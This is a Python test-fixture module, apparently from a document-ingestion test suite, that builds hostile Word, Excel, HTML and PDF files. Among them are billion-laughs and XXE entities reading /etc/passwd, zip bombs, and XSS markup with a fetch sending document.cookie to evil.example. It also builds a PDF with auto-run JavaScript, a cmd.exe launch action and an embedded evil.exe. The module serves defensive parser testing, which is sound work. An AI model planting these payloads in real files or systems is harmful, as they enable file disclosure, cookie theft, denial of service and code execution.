"""Files made to do harm, or too broken to be read."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Sequence
from pathlib import Path

from tests.ingest.load.office import W, paragraph, write_docx

LAUGHS = "".join(
    f'<!ENTITY l{i} "{"".join(f"&l{i - 1};" for _ in range(10))}">' for i in range(1, 10)
)
DTD = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha ha ha ha">{LAUGHS}]>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>'
HTML = b"""<!doctype html><html><head><title>Zorvane</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<script>fetch('https://evil.example/' + document.cookie)</script>
<link rel="stylesheet" href="https://evil.example/a.css"></head>
<body onload="alert(1)"><h1>Zorvane</h1>
<h2>Dose <img src=x onerror=alert(2)></h2>
<p>The dose of zorvane is 40 mg &lt;script&gt;alert(3)&lt;/script&gt; twice a day.</p>
<p><a href="javascript:alert(4)">Read more about the dose of zorvane</a>.</p>
<iframe src="https://evil.example/"></iframe><svg onload="alert(5)"></svg>
</body></html>"""


def docx(folder: Path, head: str = "", text: str = "The dose of zorvane is 40 mg.") -> bytes:
    """A Word file. head: stands before its document's element, in the place of the declaration."""
    path = write_docx(folder / "made.docx", paragraph(text))
    if not head:
        return path.read_bytes()
    body = f"{head}<w:document {W}><w:body>{paragraph(text)}</w:body></w:document>"
    return _with_part(path.read_bytes(), "word/document.xml", body.encode())


def zip_bomb(folder: Path, megabytes: int = 420) -> bytes:
    """A Word file of half a megabyte with a part that unpacks to hundreds."""
    out = io.BytesIO(docx(folder))
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("word/media/image1.bin", "w", force_zip64=True) as part,
    ):
        for _ in range(megabytes):
            part.write(bytes(2**20))
    return out.getvalue()


def lying_bomb(folder: Path) -> bytes:
    """A Word file whose part declares ten bytes and unpacks to fifty megabytes."""
    plain = docx(folder)
    size = 50 * 2**20
    out = io.BytesIO(plain)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("word/media/image1.bin", bytes(size))
    return out.getvalue().replace(size.to_bytes(4, "little"), (10).to_bytes(4, "little"))


def xlsx(head: str) -> bytes:
    """A workbook whose sheet begins with a document type of entities, and uses them."""
    from openpyxl import Workbook

    book, out = Workbook(), io.BytesIO()
    book.active.append(["Drug", "Dose", "Route"])
    book.active.append(["zorvane", "40 mg", "by mouth"])
    book.save(out)
    name = "xl/worksheets/sheet1.xml"
    sheet = zipfile.ZipFile(out).read(name).decode()
    return _with_part(out.getvalue(), name, (head + sheet.replace("40 mg", "&l9;")).encode())


def pdf(
    text: str = "The dose of zorvane is 40 mg twice a day.",
    *,
    root: str = "",
    kids: int = 1,
    count: int | None = None,
    more: Sequence[str] = (),
    content: bytes | None = None,
) -> bytes:
    """A PDF of one page, written by hand. root: what its catalogue holds beside. kids: how often
    the page is in the tree. count: of pages that it claims. more: further objects, from 6 on."""
    stream = content or f"BT /F1 12 Tf 72 700 Td ({text}) Tj ET".encode()
    packed = zlib.compress(stream)
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {root} >>".encode(),
        f"<< /Type /Pages /Count {kids if count is None else count} /Kids [{'3 0 R ' * kids}] >>"
        .encode(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%b\nendstream" % (len(packed), packed),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *(o.encode() for o in more),
    ]  # fmt: skip
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1, start,
    )  # fmt: skip
    return bytes(out)


def acting_pdf() -> bytes:
    """A PDF that would run a script and a program when it is opened, and carries a file."""
    root = "/OpenAction 6 0 R /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << "
    return pdf(
        root=f"{root} /Names [(evil.exe) 8 0 R] >> >> /AA << /WC 7 0 R >>",
        more=(
            "<< /S /JavaScript /JS (app.alert\\(document.cookie\\);) >>",
            "<< /S /Launch /F (cmd.exe) >>",
            "<< /Type /Filespec /F (evil.exe) /EF << /F 9 0 R >> >>",
            "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ),
    )


def _with_part(held: bytes, name: str, content: bytes) -> bytes:
    """An Office file with another content of one of its parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(held)) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.namelist():
            new.writestr(part, content if part == name else old.read(part))
    return out.getvalue()
